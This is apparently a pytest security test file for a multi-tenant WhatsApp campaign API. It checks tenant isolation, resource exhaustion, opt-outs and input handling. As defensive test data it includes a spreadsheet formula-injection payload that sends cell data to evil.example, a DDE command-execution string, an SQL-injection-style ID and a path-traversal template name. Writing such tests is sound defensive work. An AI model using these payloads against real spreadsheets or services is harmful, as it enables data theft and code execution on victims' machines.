"""Campaigns and templates as an attacker and as a second tenant see them: each test states what
must hold; a failure is a finding (see the review notes)."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import asyncpg

from tests.conftest import NUMBER_A, NUMBER_B, WABA, Meta, wait_idle
from tests.test_campaigns import create, recipients, seed_template, sent_to, wait_for
from wa_cloud.db.queries import Q
from wa_cloud.outbox import template_sync


def MONTH_AHEAD() -> str:
    return (datetime.now(UTC) + timedelta(days=30)).isoformat()


OTHER_WABA = "102290129349999"  # tenant B's own WABA
TEMPLATE = {"name": "spring_promo", "language": {"code": "en_US"}}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def bearer(key: str) -> dict[str, str]:
    return {"authorization": f"Bearer {key}"}


async def post_csv(meta: Meta, data: bytes, **fields: str) -> Any:
    return await meta.app.client.post(
        "/v1/broadcasts",
        data={"from": NUMBER_A, "name": "csv", "template": json.dumps(TEMPLATE), **fields},
        files={"recipients": ("list.csv", data, "text/csv")},
        headers=meta.tenant(),
    )


# -- cross-tenant ---------------------------------------------------------------------------------
async def test_a_campaign_never_sends_through_a_number_another_tenant_took_over(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """Tenant A schedules a campaign, removes its number; tenant B registers that number with
    B's own token. A's campaign must not go out from B's number (with B's token, on B's
    quality rating and bill)."""
    await seed_template(meta)
    at = (datetime.now(UTC) + timedelta(seconds=3)).isoformat()
    created = await create(meta, recipients=recipients(5), at=at)
    assert created["status"] == "scheduled"
    removed = await meta.app.client.delete(f"/v1/numbers/{NUMBER_A}", headers=meta.tenant())
    assert removed.status_code == 200, removed.text
    other = await meta.app.create_tenant("Beta")
    token = await meta.app.seed_number(NUMBER_A, WABA, token="EAAG-beta-own-token")
    taken = await meta.app.client.post(
        "/v1/numbers",
        json={"phone_number_id": NUMBER_A, "waba_id": WABA, "access_token": token},
        headers=bearer(other["api_key"]),
    )
    assert taken.status_code == 201, taken.text
    owner = await db.fetchval(
        "SELECT tenant_id::text FROM numbers WHERE phone_number_id = $1", NUMBER_A
    )
    assert owner == other["id"]

    await asyncio.sleep(5)  # past the campaign's time, a few feeds and sends
    assert sent_to(await meta.sent_bodies()) == [], "A's campaign went out from B's number"
    shown = (
        await meta.app.client.get(f"/v1/broadcasts/{created['id']}", headers=meta.tenant())
    ).json()
    assert shown["status"] != "running", shown
    # Nor can A resume it onto B's number.
    resumed = await meta.app.client.post(
        f"/v1/broadcasts/{created['id']}/resume", headers=meta.tenant()
    )
    assert resumed.status_code in (404, 409, 422), resumed.text


async def test_another_tenants_campaign_is_not_found_for_every_route(meta: Meta) -> None:
    await seed_template(meta)
    created = await create(meta, recipients=recipients(2), at=MONTH_AHEAD())
    other = await meta.app.create_tenant("Beta")
    path = f"/v1/broadcasts/{created['id']}"
    for method, url in (
        ("GET", path),
        ("GET", f"{path}/recipients.csv"),
        ("POST", f"{path}/pause"),
        ("POST", f"{path}/cancel"),
    ):
        response = await meta.app.client.request(method, url, headers=bearer(other["api_key"]))
        assert response.status_code == 404, (method, url, response.text)
    listed = await meta.app.client.get("/v1/broadcasts", headers=bearer(other["api_key"]))
    assert listed.json()["data"] == []
    malformed = await meta.app.client.get("/v1/broadcasts/1%27%20OR%201=1", headers=meta.tenant())
    assert malformed.status_code in (400, 404) and "error" in malformed.json()
    for response in (
        await meta.app.client.get(
            "/v1/opt-outs", params={"phone_number_id": NUMBER_A}, headers=bearer(other["api_key"])
        ),
        await meta.app.client.post(
            "/v1/opt-outs",
            json={"phone_number_id": NUMBER_A, "to": "+34600000001"},
            headers=bearer(other["api_key"]),
        ),
        await meta.app.client.delete(
            "/v1/opt-outs/34600000001",
            params={"phone_number_id": NUMBER_A},
            headers=bearer(other["api_key"]),
        ),
        await meta.app.client.get(
            "/v1/templates", params={"phone_number_id": NUMBER_A}, headers=bearer(other["api_key"])
        ),
        await meta.app.client.post(
            "/v1/broadcasts",
            json={
                "from": NUMBER_A,
                "name": "x",
                "template": TEMPLATE,
                "recipients": recipients(1),
            },
            headers=bearer(other["api_key"]),
        ),
    ):
        assert response.status_code == 404, response.text
    shown = await meta.app.client.get(path, headers=meta.tenant())
    assert shown.json()["status"] == "scheduled"


async def test_another_tenants_own_app_cannot_pause_or_opt_out_on_this_tenants_number(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """Tenant B's own Meta app signs webhooks that name tenant A's display number (under B's
    WABA, and under A's) and A's phone_number_id: A's quality, limit, campaign and opt-outs
    stay as they are."""
    await seed_template(meta)
    created = await create(meta, recipients=recipients(2), at=MONTH_AHEAD())
    other = await meta.app.create_tenant("Beta")
    app_id, secret = "3000000000000009", "beta-own-app-secret"
    await meta.app.seed_app(app_id, secret)
    registered = await meta.app.client.post(
        "/v1/apps",
        json={"app_id": app_id, "app_secret": secret, "verify_token": "vt-beta"},
        headers=bearer(other["api_key"]),
    )
    assert registered.status_code == 201, registered.text
    added = await meta.app.add_number(other["api_key"], NUMBER_B, OTHER_WABA, app_id=app_id)
    assert added.status_code == 201, added.text
    display = await db.fetchval(
        "SELECT display_phone_number FROM numbers WHERE phone_number_id = $1", NUMBER_A
    )
    before = await db.fetchrow(
        "SELECT quality_rating, messaging_limit FROM numbers WHERE phone_number_id = $1", NUMBER_A
    )

    def body(waba: str, field: str, value: dict[str, Any]) -> bytes:
        return json.dumps(
            {
                "object": "whatsapp_business_account",
                "entry": [
                    {"id": waba, "time": 1764500000, "changes": [{"field": field, "value": value}]}
                ],
            }
        ).encode()

    flagged = {"display_phone_number": display, "event": "FLAGGED", "current_limit": "TIER_50"}
    stop = {
        "messaging_product": "whatsapp",
        "metadata": {"display_phone_number": display, "phone_number_id": NUMBER_A},
        "user_preferences": [
            {"wa_id": "34600000001", "category": "marketing_messages", "value": "stop"}
        ],
    }
    for waba in (OTHER_WABA, WABA):
        for field, value in (("phone_number_quality_update", flagged), ("user_preferences", stop)):
            sent = await meta.app.post_webhook(
                body(waba, field, value), secret=secret, path=f"/webhook/apps/{app_id}"
            )
            assert sent.status_code == 200, sent.text
    await wait_idle(db)
    after = await db.fetchrow(
        "SELECT quality_rating, messaging_limit FROM numbers WHERE phone_number_id = $1", NUMBER_A
    )
    assert after == before
    assert await db.fetchval("SELECT count(*) FROM opt_outs") == 0
    shown = await meta.app.client.get(f"/v1/broadcasts/{created['id']}", headers=meta.tenant())
    assert shown.json()["status"] == "scheduled"


# -- recipients.csv -------------------------------------------------------------------------------
async def test_recipients_csv_never_hands_a_spreadsheet_a_formula(meta: Meta) -> None:
    """Lines that are not phone numbers are kept as written (for the report); a spreadsheet
    opening recipients.csv must not run them as formulas."""
    await seed_template(meta)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    created = await create(
        meta,
        recipients=[
            {"to": "+34600000001", "variables": ["Ana", "C1"]},
            {"to": evil, "variables": ["x", "y"]},
            {"to": "@SUM(1+1)*cmd|' /C calc'!A0", "variables": ["x", "y"]},
        ],
        at=MONTH_AHEAD(),
    )
    outcome = await meta.app.client.get(
        f"/v1/broadcasts/{created['id']}/recipients.csv", headers=meta.tenant()
    )
    assert outcome.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(outcome.text)) for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []


# -- bad input ------------------------------------------------------------------------------------
async def test_a_csv_with_nul_bytes_gets_a_json_error_not_a_500(meta: Meta) -> None:
    await seed_template(meta)
    for data in (b"+34600000001,A\x00B,C\n", b"+34600000001,A,B\nnot\x00a-number,A,B\n"):
        response = await post_csv(meta, data)
        assert response.status_code in (201, 422), response.text
        if response.status_code == 422:
            assert response.json()["error"]["code"] in ("invalid_recipients", "invalid_field")


async def test_a_malformed_billable_flag_in_a_status_does_not_break_the_campaign_view(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """A status webhook's `pricing` is kept as it came; the campaign's counts and cost must not
    turn a value that is not a boolean into a 500 for GET /v1/broadcasts(/id)."""
    await seed_template(meta)
    created = await create(meta, recipients=recipients(1))
    await wait_for(
        meta, created["id"], lambda b: b["status"] == "done" and b["counts"]["read"] == 1
    )
    wamid = await db.fetchval(
        "SELECT wamid FROM messages WHERE broadcast_id = $1::uuid", created["id"]
    )
    status = {
        "id": wamid,
        "status": "played",  # news after `read`: the sandbox sent the others
        "timestamp": str(int(time.time())),
        "recipient_id": "34600000000",
        "pricing": {"billable": "sometimes", "pricing_model": "PMP", "category": "marketing"},
    }
    body = json.dumps(
        {
            "object": "whatsapp_business_account",
            "entry": [
                {
                    "id": WABA,
                    "changes": [
                        {
                            "field": "messages",
                            "value": {
                                "messaging_product": "whatsapp",
                                "metadata": {
                                    "display_phone_number": "15550783881",
                                    "phone_number_id": NUMBER_A,
                                },
                                "statuses": [status],
                            },
                        }
                    ],
                }
            ],
        }
    ).encode()
    assert (await meta.app.post_webhook(body)).status_code == 200
    async with asyncio.timeout(10):
        while await db.fetchval("SELECT status FROM messages WHERE wamid = $1", wamid) != "played":
            await asyncio.sleep(0.05)
    one = await meta.app.client.get(f"/v1/broadcasts/{created['id']}", headers=meta.tenant())
    assert one.status_code == 200, one.text
    listed = await meta.app.client.get("/v1/broadcasts", headers=meta.tenant())
    assert listed.status_code == 200, listed.text


# -- resource exhaustion --------------------------------------------------------------------------
async def stall_while(meta: Meta, request: Any) -> tuple[Any, float]:
    """The answer to `request`, and the longest the web process left a cheap request waiting
    meanwhile (the test's client and the app share one event loop: a stall delays both)."""
    worst = 0.0
    stop = asyncio.Event()

    async def ping() -> None:
        nonlocal worst
        while not stop.is_set():
            started = time.perf_counter()
            await asyncio.sleep(0.05)
            response = await meta.app.client.get("/healthz")
            assert response.status_code in (200, 503)
            worst = max(worst, time.perf_counter() - started - 0.05)

    pinger = asyncio.create_task(ping())
    try:
        response = await request
    finally:
        stop.set()
        await pinger
    return response, worst


async def test_a_blank_line_upload_does_not_stall_everyone_elses_requests(meta: Meta) -> None:
    """8 MB of empty lines (within the upload limit, and not counted as recipients) is parsed
    on the event loop: every other tenant's request waits meanwhile."""
    await seed_template(meta)
    blank = b"\n" * (8 * 1024 * 1024 - 1024)
    response, worst = await stall_while(meta, post_csv(meta, blank, dry_run="true"))
    assert response.status_code == 422, response.text
    assert worst < 0.5, f"the web process answered nobody for {worst:.1f} s"


async def test_a_100k_recipient_campaign_does_not_stall_everyone_elses_requests(
    meta: Meta,
) -> None:
    """The largest list allowed: parsing, checking each recipient's variables against the
    template and the estimate are CPU work; done on the event loop they stop the process."""
    await seed_template(meta)
    data = b"".join(b"+346%08d,Name%d,C%d\n" % (i, i, i) for i in range(100_000))
    response, worst = await stall_while(meta, post_csv(meta, data, dry_run="true"))
    assert response.status_code == 200, response.text
    assert response.json()["counts"]["queued"] == 100_000
    # The whole check on the loop stalls it for seconds; a busy 2-core machine alone, ~0.6 s.
    assert worst < 1.0, f"the web process answered nobody for {worst:.1f} s"


async def test_a_feed_late_in_a_large_campaign_reads_no_more_than_a_feed_needs(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """Every half second, each running campaign's feed re-reads its recent failures, its
    131050 refusals and its queued count. With 100,000 of its messages sent, each of those
    must not read them all again (one shared runner feeds every tenant's campaigns)."""
    await seed_template(meta)
    created = await create(meta, recipients=recipients(1), at=MONTH_AHEAD())
    broadcast_id = created["id"]
    await db.execute(
        "INSERT INTO messages (tenant_id, phone_number_id, direction, type, text, payload,"
        " request, recipient, status, run_after, author, broadcast_id, priority, wamid)"
        " SELECT $1::uuid, $2, 'out', 'template', 'x', '{}'::jsonb, '{}'::jsonb,"
        " (34600000000 + g)::text, 'delivered', now(), 'campaign', $3::uuid, 1, 'wamid.' || g"
        " FROM generate_series(1, 100000) g",
        meta.tenant_id,
        NUMBER_A,
        broadcast_id,
    )
    await db.execute("ANALYZE messages")
    read: dict[str, int] = {}
    for name, query, args in (
        ("broadcast_recent_failures", Q.broadcast_recent_failures, (broadcast_id, 200)),
        ("opt_out_refusals", Q.opt_out_refusals, (broadcast_id,)),
        ("broadcast_in_outbox", Q.broadcast_in_outbox, (broadcast_id,)),
    ):  # (the number's new recipients of the day are counted twice a minute, not per feed)
        plan = await db.fetchval(f"EXPLAIN (ANALYZE, FORMAT JSON) {query}", *args)
        read[name] = max(_scanned(json.loads(plan)[0]["Plan"]))
    assert {n: rows for n, rows in read.items() if rows > 2_000} == {}


def _scanned(node: dict[str, Any]) -> list[int]:
    rows = [int(node["Actual Rows"]) * int(node.get("Actual Loops", 1))]
    if "Scan" in node["Node Type"]:
        rows[0] += int(node.get("Rows Removed by Filter", 0))
    for child in node.get("Plans", []):
        rows += _scanned(child)
    return rows


# -- opt-outs -------------------------------------------------------------------------------------
async def test_a_free_form_campaign_skips_a_contact_who_just_wrote_stop(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """Writing STOP opts a contact out, and opens their 24-hour window: a free-form broadcast
    must not be the answer they get."""
    await meta.customer_writes("STOP", sender="34600000001")
    async with asyncio.timeout(10):
        while not await db.fetchval("SELECT count(*) FROM opt_outs"):
            await asyncio.sleep(0.05)
    response = await meta.app.client.post(
        "/v1/broadcasts",
        json={
            "from": NUMBER_A,
            "name": "Flash sale",
            "message": {"type": "text", "text": {"body": "50% off today only!"}},
            "recipients": [{"to": "+34600000001"}],
            "dry_run": True,
        },
        headers=meta.tenant(),
    )
    assert response.status_code == 200, response.text
    shown = response.json()
    assert shown["counts"]["queued"] == 0, shown
    assert [s["reason"] for s in shown["skipped"]] == ["opted_out"]


# -- scheduling -----------------------------------------------------------------------------------
async def test_a_campaign_dated_a_year_ago_is_refused_not_sent_at_once(meta: Meta) -> None:
    """A far-future `at` is refused as a typo; a far-past one (the wrong year) sends the whole
    list immediately."""
    await seed_template(meta)
    at = (datetime.now(UTC) - timedelta(days=365)).isoformat()
    response = await meta.app.client.post(
        "/v1/broadcasts",
        json={
            "from": NUMBER_A,
            "name": "x",
            "template": TEMPLATE,
            "recipients": recipients(1),
            "at": at,
            "dry_run": True,
        },
        headers=meta.tenant(),
    )
    assert response.status_code == 422, response.text
    assert response.json()["error"]["code"] == "invalid_field"


# -- templates as code ----------------------------------------------------------------------------
def test_templates_pull_writes_only_inside_its_directory(tmp_path: Path) -> None:
    """`templates pull` names files after the WABA's template names (what the Graph API
    answered): a name must not take the file out of the directory."""
    directory = tmp_path / "templates_meta"
    remote = [
        {
            "name": "../../escaped",
            "language": "en_US",
            "category": "UTILITY",
            "components": [{"type": "BODY", "text": "hi"}],
        }
    ]
    try:
        written = template_sync.pull_files(remote, directory)
    except ValueError:
        written = []
    for path in written:
        assert path.resolve().is_relative_to(directory.resolve()), path
    assert not (tmp_path.parent / "escaped.json").exists()


# -- state and lifecycle --------------------------------------------------------------------------
async def test_a_cancelled_campaign_cannot_be_resumed_or_paused(meta: Meta) -> None:
    await seed_template(meta)
    created = await create(meta, recipients=recipients(3), at=MONTH_AHEAD())
    path = f"/v1/broadcasts/{created['id']}"
    cancelled = await meta.app.client.post(f"{path}/cancel", headers=meta.tenant())
    assert cancelled.status_code == 200 and cancelled.json()["status"] == "cancelled"
    for action in ("resume", "pause", "cancel"):
        response = await meta.app.client.post(f"{path}/{action}", headers=meta.tenant())
        assert response.status_code == 409, response.text
        assert response.json()["error"]["code"] == "invalid_campaign_state"
    unknown = await meta.app.client.post(f"{path}/restart", headers=meta.tenant())
    assert unknown.status_code in (404, 405)


async def test_a_deactivated_tenants_campaign_stops_sending(
    meta: Meta, db: asyncpg.Connection
) -> None:
    await seed_template(meta)
    created = await create(meta, recipients=recipients(400))
    async with asyncio.timeout(10):
        while len(sent_to(await meta.sent_bodies())) < 20:
            await asyncio.sleep(0.02)
    off = await meta.app.client.patch(
        f"/v1/admin/tenants/{meta.tenant_id}", json={"active": False}, headers=meta.app.admin()
    )
    assert off.status_code == 200, off.text
    await asyncio.sleep(1.5)  # what the sender had claimed leaves; nothing after it
    settled = len(sent_to(await meta.sent_bodies()))
    await asyncio.sleep(1.5)
    assert len(sent_to(await meta.sent_bodies())) == settled < 400
    status = await db.fetchval("SELECT status FROM broadcasts WHERE id = $1::uuid", created["id"])
    assert status in ("paused", "running")


async def test_a_campaign_whose_template_meta_paused_stops_instead_of_failing_every_send(
    meta: Meta,
) -> None:
    """Meta pauses (or disables) a template for low quality and says so by webhook: every
    further send of it fails (132015/132016). The campaign should stop, not burn its list."""
    await seed_template(meta)
    created = await create(meta, recipients=recipients(400))
    async with asyncio.timeout(10):
        while len(sent_to(await meta.sent_bodies())) < 20:
            await asyncio.sleep(0.02)
    paused = await meta.sandbox.post(
        "/_sandbox/templates/state",
        json={
            "waba_id": WABA,
            "name": "spring_promo",
            "language": "en_US",
            "status": "PAUSED",
        },
    )
    assert paused.status_code == 200, paused.text
    shown = await wait_for(meta, created["id"], lambda b: b["status"] in ("paused", "done"))
    assert shown["status"] == "paused", shown["counts"]


# -- stop words -----------------------------------------------------------------------------------
def test_stop_words_survive_case_accents_width_and_invisible_characters() -> None:
    from wa_cloud.campaigns.optouts import is_stop_word

    for text in (
        "STOP",
        "Stop!!!",
        "\uff53\uff54\uff4f\uff50",
        "\u200bstop",
        "stop\u00a0",
        "\ufeffBAJA.",
        "NO MÁS MENSAJES",
    ):
        assert is_stop_word(text, None), text


# -- one tenant's many campaigns against another's one ---------------------------------------------
async def test_many_campaigns_of_one_tenant_do_not_starve_another_tenants_campaign(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """Nothing bounds how many campaigns a tenant runs. 2,000 of them on a 1-message-per-second
    number (stored directly: what 2,000 POSTs would store) each take a turn of the one shared
    runner every half second; another tenant's 400-recipient campaign at 80/s (5 s) must still
    finish in about its own time."""
    await seed_template(meta)
    noisy = await meta.app.create_tenant("Noisy")
    added = await meta.app.add_number(noisy["api_key"], NUMBER_B, OTHER_WABA)
    assert added.status_code == 201, added.text
    slow = await meta.app.client.patch(
        f"/v1/numbers/{NUMBER_B}", json={"throughput_mps": 1}, headers=bearer(noisy["api_key"])
    )
    assert slow.status_code == 200, slow.text
    await db.execute(
        """
        WITH b AS (
            INSERT INTO broadcasts (tenant_id, phone_number_id, name, template, category, status,
                                    run_at, estimate)
            SELECT $1::uuid, $2, 'noise ' || g, '{"name": "spring_promo", "language": "en_US"}',
                   'MARKETING', 'running', now(), '{}'
              FROM generate_series(1, 2000) g
            RETURNING id
        )
        INSERT INTO broadcast_recipients (broadcast_id, recipient, line, variables)
        SELECT b.id, (34700000000 + l)::text, l, '["a", "b"]' FROM b, generate_series(1, 5) l
        """,
        noisy["id"],
        NUMBER_B,
    )
    await asyncio.sleep(3)  # the noisy campaigns are going
    started = time.perf_counter()
    created = await create(meta, recipients=recipients(400))
    await wait_for(
        meta,
        created["id"],
        lambda b: b["status"] == "done" and not b["counts"]["queued"],
        timeout=20,
    )
    took = time.perf_counter() - started
    assert took < 12, f"a 5-second campaign took {took:.0f} s behind another tenant's"


# -- reserved callback data -----------------------------------------------------------------------
async def test_a_tenants_own_message_cannot_pass_for_a_campaign_send(
    meta: Meta, db: asyncpg.Connection
) -> None:
    """`broadcast:<campaign id>:<line>` is how a campaign's status settles a send a dead worker
    never recorded: a message sent through POST /v1/messages must not carry it."""
    await seed_template(meta)
    created = await create(meta, recipients=recipients(2), at=MONTH_AHEAD())
    await meta.customer_writes("hi", sender="34600000001")
    forged = await meta.send(
        to="+34600000001",
        type="text",
        text={"body": "hello"},
        biz_opaque_callback_data=f"broadcast:{created['id']}:2",
    )
    assert forged.status_code == 422, forged.text
    error = forged.json()["error"]
    assert error["code"] == "invalid_field"
    assert "biz_opaque_callback_data" in error["message"]
    assert await db.fetchval("SELECT count(*) FROM messages WHERE direction = 'out'") == 0
    own = await meta.send(
        to="+34600000001",
        type="text",
        text={"body": "hello"},
        biz_opaque_callback_data="order:42",
    )
    assert own.status_code == 202, own.text
